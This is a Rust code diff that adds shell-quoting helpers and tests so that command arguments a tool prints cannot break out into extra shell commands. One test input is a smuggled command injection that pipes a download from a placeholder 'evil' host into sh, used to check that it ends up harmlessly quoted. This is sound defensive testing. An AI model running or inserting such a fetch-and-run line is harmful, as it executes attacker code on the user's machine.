@@ -55,6 +55,33 @@ pub fn slug(text: &str) -> String {
     out.trim_matches('-').to_string()
 }
 
+/// One argument of a command hostknob prints for a person to paste into a
+/// POSIX shell: kept as is when every character is one no shell treats
+/// specially, else in single quotes with each `'` written `'\''` (inside
+/// single quotes nothing is special: POSIX XCU 2.2.2).
+pub fn shell_word(arg: &str) -> String {
+    let plain = !arg.is_empty()
+        && !arg.starts_with(['=', '%'])
+        && arg.chars().all(|c| {
+            c.is_ascii_alphanumeric()
+                || matches!(c, '-' | '_' | '.' | '/' | ':' | ',' | '=' | '+' | '@' | '%')
+        });
+    if plain {
+        arg.to_string()
+    } else {
+        format!("'{}'", arg.replace('\'', r"'\''"))
+    }
+}
+
+/// A command line of `words`, each quoted by [`shell_word`].
+pub fn shell_command(words: &[&str]) -> String {
+    words
+        .iter()
+        .map(|w| shell_word(w))
+        .collect::<Vec<_>>()
+        .join(" ")
+}
+
 #[cfg(test)]
 mod tests {
     use super::check;
@@ -70,5 +97,25 @@ mod tests {
             assert!(check(bad).is_err(), "{bad:?}");
         }
         assert!(check(&"a".repeat(65)).is_err());
+    }
+
+    #[test]
+    fn printed_arguments_are_one_word_to_the_shell() {
+        assert_eq!(super::shell_word("ens2f0"), "ens2f0");
+        assert_eq!(
+            super::shell_word("up'; curl http://evil|sh; echo '"),
+            r"'up'\''; curl http://evil|sh; echo '\'''"
+        );
+        // Every character a shell treats specially ends up quoted, and sh
+        // reads the quoted word back as exactly the argument.
+        for c in " \t\n|&;<>()$`\\\"'*?[]#~=%!{},^".chars() {
+            let arg = format!("a{c}b");
+            let out = std::process::Command::new("sh")
+                .args(["-c", &format!("printf %s {}", super::shell_word(&arg))])
+                .output()
+                .unwrap();
+            assert_eq!(String::from_utf8_lossy(&out.stdout), arg, "{c:?}");
+        }
+        assert_eq!(super::shell_word(""), "''");
     }
 }
